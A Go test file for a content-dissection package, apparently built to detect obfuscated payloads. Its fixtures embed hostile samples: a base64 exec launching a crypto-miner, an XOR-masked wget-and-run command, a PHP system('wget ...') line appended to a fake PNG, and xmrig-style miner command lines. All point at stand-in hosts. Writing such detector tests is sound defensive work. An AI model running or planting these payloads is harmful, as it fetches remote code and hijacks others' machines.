package text

import (
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/rogpeppe/go-internal/txtar"

	"lamproom/dissection/dissectiontest"
)

func samples(t testing.TB) []dissectiontest.Sample {
	t.Helper()
	paths, err := filepath.Glob("testdata/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	var all []dissectiontest.Sample
	for _, p := range paths {
		a, err := txtar.ParseFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range a.Files {
			if !strings.HasPrefix(f.Name, "want/") {
				all = append(all, dissectiontest.Sample{Name: f.Name, Data: f.Data})
			}
		}
	}
	return all
}

func TestConformance(t *testing.T) {
	all := samples(t)
	all = append(all, dissectiontest.Sample{Name: "empty.txt"},
		dissectiontest.Sample{Name: "layers.py", Data: []byte("import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY2QgL3RtcDsgLi9hIC1vIHBvb2wuZXhhbXBsZS5vcmc6MzMzMyAtdSB3IC1wIHgiKQo='))\nb = bytes([104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 49, 47, 97])\n")})
	for _, s := range all {
		if s.Name == "task.xml" || s.Name == "start.bat" {
			all = append(all, dissectiontest.Sample{Name: "utf16-" + s.Name, Data: utf16le(string(s.Data))})
		}
	}
	dissectiontest.Run(t, New(), all...)
}

func TestConformanceOfData(t *testing.T) {
	masked := []byte("\nhttp://192.0.2.1/a cd /tmp; ./sys -o pool.example.org:3333 -u w -p x >/dev/null 2>&1\n")
	for i := range masked {
		masked[i] ^= 0xa5
	}
	dissectiontest.Run(t, NewData(),
		dissectiontest.Sample{Name: "masked.bin", Data: append(append([]byte("\x00\x01\xfe\xff\x02"), masked...), 0, 0, 1)},
		dissectiontest.Sample{Name: "picture.png", Data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x01IDATx\x00\x00\x00\x00\x00\x00\x00\x00IEND\x00\x00\x00\x00<?php system('wget http://192.0.2.1/a'); ?>")},
		dissectiontest.Sample{Name: "a.bin", Data: []byte("\x00\x01MZ\x90\x00xmrig.exe -o pool.example.org:3333 -u worker -p x -k\x00\xff\xfe" + string(utf16le("b.exe -o 10.0.0.1:443 -u w -p x -k")) + "\x00\x00")},
	)
}

func utf16le(s string) []byte {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}
